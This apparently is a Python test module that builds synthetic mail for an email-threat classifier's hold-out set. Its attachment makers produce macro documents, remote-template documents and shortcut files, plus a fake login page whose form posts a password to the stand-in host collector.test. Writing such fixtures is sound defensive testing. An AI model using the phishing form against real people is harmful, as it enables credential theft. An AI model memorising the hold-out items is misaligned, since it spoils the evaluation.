"""Messages told in a readable file: what the example company's inbox and the hold-out are made from."""

import tomllib
import zlib
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec

from tests import files
from tests.mail import JST, Attachment, mail

FIRST_DAY = datetime(2026, 3, 2, 8, 0, tzinfo=JST)

PEOPLE = {
    "yamada": "山田 太郎 <t.yamada@kaiyo-exchange.example>",
    "ohno": "大野 翔一 <s.ohno@kaiyo-exchange.example>",
    "takahashi": "髙橋 真琴 <m.takahashi@kaiyo-exchange.example>",
    "watanabe": "渡邉 純子 <j.watanabe@kaiyo-exchange.example>",
    "sato": "佐藤 恵 <m.sato@kaiyo-exchange.example>",
    "kobayashi": "小林 直樹 <n.kobayashi@kaiyo-exchange.example>",
    "ito": "伊藤 健二 <k.ito@kaiyo-exchange.example>",
    "nakamura": "中村 葵 <a.nakamura@kaiyo-exchange.example>",
    "kato": "加藤 亮 <r.kato@kaiyo-exchange.example>",
    "hayashi": "林 美咲 <m.hayashi@kaiyo-exchange.example>",
    "fischer": "Daniel Fischer <d.fischer@kaiyo-exchange.example>",
    "fujii": "藤井 拓海 <t.fujii@kaiyo-exchange.example>",
    "saito": "斎藤 由美 <y.saito@kaiyo-exchange.example>",
    "morita": "森田 大輔 <d.morita@kaiyo-exchange.example>",
    "yoshida": "吉田 香織 <k.yoshida@kaiyo-exchange.example>",
    "matsumoto": "松本 玲奈 <r.matsumoto@kaiyo-exchange.example>",
    "support": "support@kaiyo-exchange.example",
    "all": "all@kaiyo-exchange.example",
}


class Attach(msgspec.Struct, forbid_unknown_fields=True):
    """A file to be made."""

    name: str
    make: str
    members: list[str] = []
    locked: bool = False
    text: str = ""
    link: str = ""
    template: str = ""
    location: str = ""
    organizer: str = ""

    def build(self) -> Attachment:
        """Name and bytes."""
        makers: dict[str, Any] = {
            "zip": lambda: files.zip_of({name: _content(name) for name in self.members}, locked=self.locked),
            "docx": lambda: files.docx(self.text, remote_template=self.template),
            "docm": lambda: files.docx(self.text, macro=True),
            "xlsx": lambda: files.xlsx([self.text.split()]),
            "ole": files.ole_with_macro,
            "pdf": lambda: files.pdf(self.text, link=self.link),
            "png": files.png,
            "text": self.text.encode,
            "login-page": lambda: LOGIN_PAGE,
            "ics": lambda: files.invitation(
                self.text, organizer=self.organizer, start="20260304T100000", location=self.location
            ),
        }
        return self.name, makers[self.make]()


class Scene(msgspec.Struct, forbid_unknown_fields=True):
    """One message; the fields are told in `tests/holdout/README.md`."""

    subject: str
    to: str
    """a short name of `PEOPLE`, or an address"""
    from_: str = msgspec.field(name="from")
    id: str = ""
    category: str = ""
    level: int = 0
    want: str = ""
    body: str = ""
    html: str = ""
    cc: str = ""
    reply_to: str = ""
    envelope: str = ""
    auth: str = "pass"
    charset: str = "utf-8"
    headers: list[tuple[str, str]] = []
    thread: list[str] = []
    attach: list[Attach] = []
    known: bool = False
    at: str = ""
    """date and time (ISO 8601), Japan's time; left out: a working hour by the hash of the id"""
    message_id: str = ""

    @property
    def attack(self) -> bool:
        """Whether it is one."""
        return self.level > 0

    @property
    def wanted(self) -> str:
        """What a person would want of the verdict."""
        return self.want or ("danger" if self.attack else "clear")

    @property
    def language(self) -> str:
        """`ja` or `en`, of the body or the subject."""
        return "en" if (self.body or self.html).isascii() else "ja"

    @property
    def date(self) -> datetime:
        """As told, or a working hour within two weeks, by the hash of the id."""
        if self.at:
            return datetime.fromisoformat(self.at).replace(tzinfo=JST)
        number = zlib.crc32(self.id[::-1].encode())
        day = (number % 10) // 5 * 7 + number % 5
        return FIRST_DAY + timedelta(days=day, minutes=(number >> 8) % 660)

    def raw(self) -> bytes:
        """The message as the company's mail server handed it over."""
        return mail(
            from_=self.from_,
            to=PEOPLE.get(self.to, self.to),
            subject=self.subject,
            body=self.body.lstrip("\n"),
            html=self.html.lstrip("\n"),
            cc=self.cc,
            reply_to=self.reply_to,
            envelope_from=self.envelope,
            auth=self.auth,
            charset=self.charset,
            headers=self.headers,
            references=self.thread,
            attachments=[attach.build() for attach in self.attach],
            date=self.date,
            message_id=self.message_id,
        )


def read_scenes(path: Path) -> list[Scene]:
    """The messages of a file, in its order."""
    return [msgspec.convert(entry, Scene) for entry in tomllib.loads(path.read_text("utf-8"))["mail"]]


def _content(name: str) -> bytes:
    if name.endswith(".lnk"):
        return files.shortcut("/c rem nothing happens here")
    return files.pdf("Nothing") if name.endswith(".pdf") else b"nothing\n"


LOGIN_PAGE = (
    b"<html><body><form action='https://collector.test/p' method='post'>Password "
    b"<input type='password' name='p'><input type='submit' value='Sign in'></form></body></html>"
)
